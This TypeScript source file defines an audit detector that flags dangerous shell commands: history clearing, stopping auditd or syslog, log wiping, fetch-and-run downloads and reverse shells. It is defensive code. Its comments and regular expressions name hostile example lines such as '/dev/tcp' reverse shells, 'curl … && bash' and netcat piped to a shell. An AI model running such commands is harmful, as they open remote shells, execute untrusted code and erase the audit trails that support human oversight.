/**
 * Known-dangerous commands: lines that are worth a human's attention even when the command policy
 * allowed them — hiding history, blinding the audit trail, fetch-and-run, reverse shells. The line
 * is split with the policy's shell parser (splitSimpleCommands); wrappers (sudo, env, nohup, ...)
 * are peeled and `sh -c '...'` is looked into, so `sudo bash -c 'history -c'` is seen as
 * `history -c`. Every pattern lives in the one table below (DANGEROUS), each with an id, a
 * category and a description; docs/anomalies.md lists the same table.
 *
 * Honest limits: this matches shapes, it does not understand programs. Obfuscation (base64 piped
 * to a shell, variables holding command names, `eval`, a script file that does the same) is not
 * seen here — the command policy denies most of those shapes outright (DESIGN.md "Command rules"),
 * and what still gets through is what the recording is for.
 */
import { splitSimpleCommands } from '../../policy/index.js';
import type { AuditEvent } from '../../events/types.js';
import { contextOf, printableText, type EventDetector, type EventInput, type Finding } from './types.js';

export type DangerCategory = 'history' | 'audit' | 'logs' | 'fetch-and-run' | 'reverse-shell';

/** A simple command after wrappers are peeled: its program's base name and the rest. */
interface Cmd {
  readonly prog: string;
  /** Arguments; '' stands for a word only the running shell knows (an expansion, a substitution). */
  readonly args: readonly string[];
  readonly text: string;
}

/** A line: its raw text (and any `sh -c` text inside it) and its simple commands. */
interface Line {
  readonly texts: readonly string[];
  readonly commands: readonly Cmd[];
}

export interface DangerRule {
  readonly id: string;
  readonly category: DangerCategory;
  readonly description: string;
  /** The offending command's text when the line matches, else null. */
  readonly test: (line: Line) => string | null;
}

export interface DangerMatch {
  readonly id: string;
  readonly category: DangerCategory;
  readonly description: string;
  readonly match: string;
}

const SHELLS = /^(sh|bash|dash|zsh|ksh|mksh|ash|fish|busybox)$/;
const INTERPRETERS = /^(sh|bash|dash|zsh|ksh|mksh|ash|fish|python[0-9.]*|perl|ruby|php[0-9.]*|node|nodejs|lua[0-9.]*)$/;
const SCRIPTING = /^(python[0-9.]*|perl|ruby|php[0-9.]*|node|nodejs|lua[0-9.]*)$/;
const FETCHERS = /^(curl|wget|fetch)$/;
const NET_CLIENTS = /^(nc|ncat|netcat|telnet|openssl|socat)$/;
const LOG_UNITS = /^(auditd|rsyslog|syslog|syslog-ng|systemd-journald|journald)(\.service|\.socket)?$/;
const PROTECTED_LOGS = /^\/var\/log(\/(\*|audit(\/.*)?|wtmp|btmp|lastlog|auth\.log(\.\d+)?|secure|messages|syslog))?\/?$/;
const HISTORY_FILE = /(^|\/)(\.\w*_history|\.zhistory|\.histfile)$/;

const find = (line: Line, pred: (c: Cmd) => boolean): string | null => line.commands.find(pred)?.text ?? null;
const has = (c: Cmd, ...words: string[]): boolean => words.some((w) => c.args.includes(w));
/** The command's words as written, quotes dropped: paths with `~` or globs, which argv leaves to the shell. */
const written = (c: Cmd): string[] => c.text.split(/\s+/).map((w) => w.replace(/^['"]|['"]$/g, ''));
/** Does this interpreter take its program from stdin or a substitution rather than a file named in the line? */
function readsCode(c: Cmd): boolean {
  const i = c.args.indexOf('-c');
  if (i >= 0) return (c.args[i + 1] ?? '') === '';
  const operands = c.args.filter((a) => !a.startsWith('-') || a === '-');
  return operands.length === 0 || operands[0] === '-' || operands[0] === '' || has(c, '-s');
}
/** The inline program of `python -c CODE`, `perl -e CODE`, `node -e CODE`, `php -r CODE`. */
function inlineCode(c: Cmd): string | null {
  const i = c.args.findIndex((a) => a === '-c' || a === '-e' || a === '-r' || a === '--eval' || a === '-E');
  return i >= 0 ? (c.args[i + 1] ?? null) : null;
}
const anyText = (line: Line, re: RegExp): string | null => line.texts.find((t) => re.test(t)) ?? null;

/**
 * Assignments that switch history off, where a command could start: `HISTSIZE=0`,
 * `export HISTFILE=/dev/null`, `HISTFILE= bash`. `echo HISTSIZE=0` is not one.
 */
const HISTORY_ASSIGN = /(?:^|[;&|({`]|\$\()\s*(?:(?:export|declare|typeset|readonly|local)(?:\s+-[a-zA-Z]+)*\s+)?(?:[A-Za-z_]\w*=\S*\s+)*(?:(?:HISTSIZE|HISTFILESIZE|SAVEHIST)=(['"]?)0\1(?=[\s;&|)]|$)|HISTFILE=(?:(['"]?)\/dev\/null\2|''|""|(?=[\s;&|)]|$)))/;
/** `bash -i >& /dev/tcp/h/p 0>&1`, `exec 5<>/dev/tcp/h/p; sh <&5 >&5`: a shell wired to a socket both ways. */
const DEV_TCP = /\/dev\/(tcp|udp)\/[^\s/]+\/\d+/;
const BOTH_WAYS = /(^|\s)-i\b|\d?>&\s*\d|<&\s*\d|>&\s*\/dev\/(tcp|udp)|<>\s*\/dev\/(tcp|udp)/;
const SOCKET_CODE = /[sS]ocket|fsockopen|net\.connect|require\(\s*['"]net['"]\s*\)/;
const SPAWN_CODE = /subprocess|pty\.spawn|dup2|exec|spawn|popen|system\(|proc_open|child_process|\/bin\/(ba|z|da)?sh/;

/** The table: one entry per pattern. Keep docs/anomalies.md in step. */
export const DANGEROUS: readonly DangerRule[] = [
  { id: 'history-unset', category: 'history', description: 'unset HISTFILE: the shell stops saving history', test: (l) => find(l, (c) => c.prog === 'unset' && has(c, 'HISTFILE')) },
  { id: 'history-disable', category: 'history', description: 'HISTSIZE/HISTFILESIZE=0 or HISTFILE=/dev/null: history switched off', test: (l) => anyText(l, HISTORY_ASSIGN) },
  { id: 'history-off', category: 'history', description: 'set +o history: history recording turned off', test: (l) => find(l, (c) => (c.prog === 'set' && c.args.some((a, i) => a === '+o' && c.args[i + 1] === 'history')) || (c.prog === 'shopt' && has(c, '-u') && has(c, 'history'))) },
  { id: 'history-clear', category: 'history', description: 'history -c / -w /dev/null: the history list cleared', test: (l) => find(l, (c) => c.prog === 'history' && c.args.some((a, i) => /^-[a-zA-Z]*c/.test(a) || (a === '-w' && c.args[i + 1] === '/dev/null'))) },
  {
    id: 'history-file-wipe',
    category: 'history',
    description: 'a shell history file deleted, shredded, truncated or linked to /dev/null',
    test: (l) => find(l, (c) => /^(rm|shred|truncate|unlink|ln)$/.test(c.prog) && written(c).some((a) => HISTORY_FILE.test(a))) ?? anyText(l, /(?<![>&<0-9])>\|?(?!>)\s*['"]?\S*(_history|\.zhistory|\.histfile)\b/),
  },
  { id: 'audit-rules-delete', category: 'audit', description: 'auditctl -D / -e 0: audit rules deleted or auditing disabled', test: (l) => find(l, (c) => c.prog === 'auditctl' && (has(c, '-D', '-e0') || c.args.some((a, i) => a === '-e' && c.args[i + 1] === '0'))) },
  {
    id: 'audit-stop',
    category: 'audit',
    description: 'auditd or the system logger stopped, disabled, masked or killed',
    test: (l) =>
      find(
        l,
        (c) =>
          (c.prog === 'systemctl' && c.args.some((a) => /^(stop|disable|mask|kill)$/.test(a)) && c.args.some((a) => LOG_UNITS.test(a))) ||
          (c.prog === 'service' && LOG_UNITS.test(c.args[0] ?? '') && c.args[1] === 'stop') ||
          (/^\/etc\/init\.d\/(auditd|rsyslog|syslog)$/.test(c.text.split(/\s+/)[0] ?? '') && has(c, 'stop')) ||
          (/^(pkill|killall)$/.test(c.prog) && c.args.some((a) => LOG_UNITS.test(a))),
      ),
  },
  {
    id: 'log-wipe',
    category: 'logs',
    description: 'audit, login or system logs deleted, shredded or truncated',
    test: (l) => find(l, (c) => /^(rm|shred|truncate|unlink)$/.test(c.prog) && written(c).some((a) => PROTECTED_LOGS.test(a))) ?? anyText(l, /(?<![>&<0-9])>\|?(?!>)\s*\/var\/log\/(audit\/\S*|wtmp|btmp|lastlog|auth\.log|secure)\b/),
  },
  {
    id: 'fetch-and-run',
    category: 'fetch-and-run',
    description: 'a download run at once: curl/wget piped or substituted into a shell or interpreter',
    test: (l) => {
      const fetch = l.commands.find((c) => FETCHERS.test(c.prog));
      if (fetch === undefined) return null;
      const piped = l.texts.some((t) => /\||<\(|\$\(|`/.test(t));
      const runner = l.commands.find((c) => INTERPRETERS.test(c.prog) && readsCode(c));
      if (piped && runner !== undefined) return `${fetch.text} | ${runner.text}`;
      // curl -o /tmp/x.sh URL && bash /tmp/x.sh
      const out = fetch.args.find((_a, i) => i > 0 && /^(-o|-O|--output|--output-document)$/.test(fetch.args[i - 1] ?? ''));
      const runs = out !== undefined && out !== '-' && out !== '' ? l.commands.find((c) => INTERPRETERS.test(c.prog) && c.args.includes(out)) : undefined;
      return runs === undefined ? null : `${fetch.text}; ${runs.text}`;
    },
  },
  { id: 'reverse-shell-dev-tcp', category: 'reverse-shell', description: 'a shell wired to /dev/tcp or /dev/udp in both directions', test: (l) => l.texts.find((t) => DEV_TCP.test(t) && BOTH_WAYS.test(t)) ?? null },
  {
    id: 'reverse-shell-nc',
    category: 'reverse-shell',
    description: 'netcat/ncat running a program for the connection (-e, -c, --exec, --sh-exec)',
    test: (l) => find(l, (c) => /^(nc|netcat|ncat)$/.test(c.prog) && c.args.some((a) => /^-[a-zA-Z]*e$/.test(a) || /^-e./.test(a) || /^--(exec|sh-exec|lua-exec)(=|$)/.test(a) || (c.prog === 'ncat' && a === '-c'))),
  },
  { id: 'reverse-shell-socat', category: 'reverse-shell', description: 'socat connecting a program to a socket (exec:, system:)', test: (l) => find(l, (c) => c.prog === 'socat' && c.args.some((a) => /^(exec|system):/i.test(a))) },
  {
    id: 'reverse-shell-fifo',
    category: 'reverse-shell',
    description: 'a named pipe joined to a network client (mkfifo … | nc …)',
    test: (l) => (l.commands.some((c) => c.prog === 'mkfifo' || (c.prog === 'mknod' && has(c, 'p'))) ? find(l, (c) => NET_CLIENTS.test(c.prog)) : null),
  },
  {
    id: 'reverse-shell-pipe',
    category: 'reverse-shell',
    description: 'a network client piped into a shell (nc host port | sh)',
    test: (l) => (l.texts.some((t) => t.includes('|')) && l.commands.some((c) => SHELLS.test(c.prog) && readsCode(c)) ? find(l, (c) => NET_CLIENTS.test(c.prog) && c.prog !== 'socat') : null),
  },
  {
    id: 'reverse-shell-script',
    category: 'reverse-shell',
    description: 'an inline script that opens a socket and runs a shell or process on it (python -c, perl -e, ...)',
    test: (l) =>
      find(l, (c) => {
        const code = SCRIPTING.test(c.prog) ? inlineCode(c) : null;
        return code !== null && SOCKET_CODE.test(code) && SPAWN_CODE.test(code);
      }),
  },
];

/** Every dangerous pattern in a command line (empty when none). Pure; never throws. */
export function findDangerous(line: string): DangerMatch[] {
  const parsed = analyse(line, 0);
  const out: DangerMatch[] = [];
  for (const rule of DANGEROUS) {
    const m = rule.test(parsed);
    if (m !== null) out.push({ id: rule.id, category: rule.category, description: rule.description, match: printableText(m, 200) });
  }
  return out;
}

const MAX_DEPTH = 3;

function analyse(line: string, depth: number): Line {
  const split = splitSimpleCommands(line);
  const texts = [line];
  const commands: Cmd[] = [];
  if (!split.ok) return { texts, commands };
  for (const sc of split.commands) {
    const argv = peel(sc.argv.map((w) => w ?? ''));
    const prog = basename(argv[0] ?? '');
    const args = argv.slice(1);
    commands.push({ prog, args, text: sc.text });
    // sh -c 'inner', su -c 'inner': look inside.
    const inner = (SHELLS.test(prog) || prog === 'su') && args.indexOf('-c') >= 0 ? args[args.indexOf('-c') + 1] : undefined;
    if (inner !== undefined && inner !== '' && depth < MAX_DEPTH) {
      const sub = analyse(inner, depth + 1);
      texts.push(...sub.texts);
      commands.push(...sub.commands);
    }
  }
  return { texts, commands };
}

const basename = (p: string): string => p.slice(p.lastIndexOf('/') + 1);

/** Options of each wrapper that take a value (so the value is not mistaken for the command). */
const WRAPPERS: Readonly<Record<string, { readonly valued: RegExp; readonly positional?: number }>> = {
  sudo: { valued: /^-[ugpChrtUDR]$/ },
  doas: { valued: /^-[uC]$/ },
  env: { valued: /^-[uSC]$/ },
  nohup: { valued: /^$/ },
  time: { valued: /^-[fo]$/ },
  command: { valued: /^$/ },
  builtin: { valued: /^$/ },
  exec: { valued: /^-a$/ },
  setsid: { valued: /^$/ },
  nice: { valued: /^-n$/ },
  ionice: { valued: /^-[cnp]$/ },
  stdbuf: { valued: /^-[ioe]$/ },
  timeout: { valued: /^-[sk]$/, positional: 1 },
  xargs: { valued: /^-[IEnLPsda]$/ },
  chroot: { valued: /^$/, positional: 1 },
};

/** Drops wrapper programs and their options: `sudo -u root env X=1 nice -n 5 bash` → `bash`. */
function peel(argv: readonly string[]): string[] {
  let a = [...argv];
  for (let guard = 0; guard < 8; guard++) {
    const w = WRAPPERS[basename(a[0] ?? '')];
    if (w === undefined) break;
    a = a.slice(1);
    while (a.length > 0) {
      const x = a[0] as string;
      if (x === '--') {
        a = a.slice(1);
        break;
      }
      if (/^[A-Za-z_]\w*=/.test(x)) a = a.slice(1);
      else if (x.startsWith('-') && x.length > 1) a = a.slice(w.valued.test(x) ? 2 : 1);
      else break;
    }
    if (w.positional) a = a.slice(w.positional);
  }
  return a;
}

/** The dangerousCommands detector: judges the text of every command event from this broker. */
export class DangerousCommands implements EventDetector {
  readonly name = 'dangerousCommands' as const;
  readonly types = ['command.allowed', 'command.denied', 'command.review'] as const;
  /** (session, command) pairs already reported: a reviewed-then-allowed command fires once. */
  private readonly seen = new Set<string>();

  judge(e: AuditEvent, input: EventInput): Finding | null {
    const cfg = input.template.anomaly.dangerousCommands;
    if (cfg === null || e.grantId === null) return null;
    const command = String(e.data.command ?? '');
    const matches = findDangerous(command);
    if (matches.length === 0) return null;
    const key = `${e.sessionId ?? ''}\0${command}`;
    if (this.seen.has(key)) return null;
    if (this.seen.size >= 10_000) this.seen.clear();
    this.seen.add(key);
    const decision = e.type === 'command.allowed' ? 'allowed' : e.type === 'command.denied' ? 'denied' : 'held for review';
    return {
      detector: this.name,
      action: cfg.action,
      grantId: e.grantId,
      sessionId: e.sessionId,
      summary: `dangerous command (${matches.map((m) => m.id).join(', ')}): ${printableText(command, 120)}`,
      evidence: { command: printableText(command, 2_000), decision, mode: e.data.mode ?? null, patterns: matches },
      trigger: e,
      ctx: contextOf(e),
    };
  }
}
